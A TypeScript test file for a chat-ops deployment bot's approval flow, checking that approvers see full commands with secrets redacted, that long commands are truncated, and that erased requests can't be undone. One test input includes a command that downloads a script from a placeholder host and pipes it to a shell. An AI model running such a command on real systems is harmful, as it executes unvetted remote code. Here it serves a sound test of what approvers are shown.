import { expect, test } from "vitest";
import { approvalTown } from "../../support/approval-town.ts";
import { card, says, clicks, whispers } from "../../support/speak.ts";
import { erasePersonNow } from "../../../src/bot/compose/data/person.ts";

/** Every create needs approval from another person in the channel. */
const policy = `
rules:
  - { name: look, who: [members], does: [read], then: allow }
  - { name: all else, who: [members], does: [routine, disruptive, destructive], then: { approve: { from: [channel-members] } } }
`;

test("an approver of a create sees its command and settings, without secrets", async () => {
  await using town = await approvalTown({ policy });

  await says(
    town,
    town.developer,
    "/gantry create service api --image test/web:1 --memory 512 --env GREETING=hello-value --env PGPASS=opensesame " +
      "--publish 8080 --volume data=disk-1:ro --mount data:/var/lib/data --domain api.example.com " +
      '-- sh -c "curl https://x.example/i.sh | sh" --db-password sw0rdfish',
  );

  const shown = card(town.approver);
  expect(shown).toContain('command: sh -c "curl https://x.example/i.sh | sh" --db-password [redacted]');
  expect(shown).toContain("of test/web:1");
  expect(shown).toContain("memory 512 MiB");
  expect(shown).toContain("environment variables GREETING, PGPASS");
  expect(shown).toContain("8080/tcp");
  expect(shown).toContain("data (disk disk-1, read-only)");
  expect(shown).toContain("data at /var/lib/data");
  expect(shown).toContain("api.example.com");
  const sent = JSON.stringify(town.playground.transcript().filter(({ direction }) => direction === "from bot"));
  for (const secret of ["sw0rdfish", "opensesame", "hello-value"]) expect(sent).not.toContain(secret);
});

test("a command too long for the card is cut there and complete in the thread", async () => {
  await using town = await approvalTown({ policy });
  const words = Array.from({ length: 90 }, (_, at) => `--option-${at}=${"v".repeat(60)}`);

  await says(town, town.developer, `/gantry create job long --image test/web -- ${words.join(" ")}`);

  const [head = "", ...replies] = town.thread("ops");
  expect(head).toContain("command: --option-0=");
  expect(head).not.toContain("--option-89=");
  const whole = replies.join("\n").replaceAll(/\s/gu, "");
  expect(whole).toContain("--option-0=");
  expect(whole).toContain("--option-89=");
});

test("a followed request whose requester is erased can't be undone, and the log reports nothing broken", async () => {
  await using town = await approvalTown({ settings: { healthyAfterMs: 60_000 } });
  await says(town, town.developer, "/gantry scale web 3");
  await town.until(() => card(town.developer).includes("watching for 60 s"));
  const settings = { store: { kind: "sqlite" }, dataDir: town.dataDir, keys: town.keys } as const; // a literal kind
  await erasePersonNow(settings, town.developer.id);
  const before = town.logged().length;

  await clicks(town, town.approver, "Undo");
  town.passMinutes(2);
  await town.sweep();
  await town.settled();

  expect(whispers(town.approver).join("\n")).toMatch(/What it asked for was erased\. Nothing was changed\./u);
  expect(
    town
      .logged()
      .slice(before)
      .filter(({ level }) => Number(level) >= 40),
  ).toEqual([]);
});
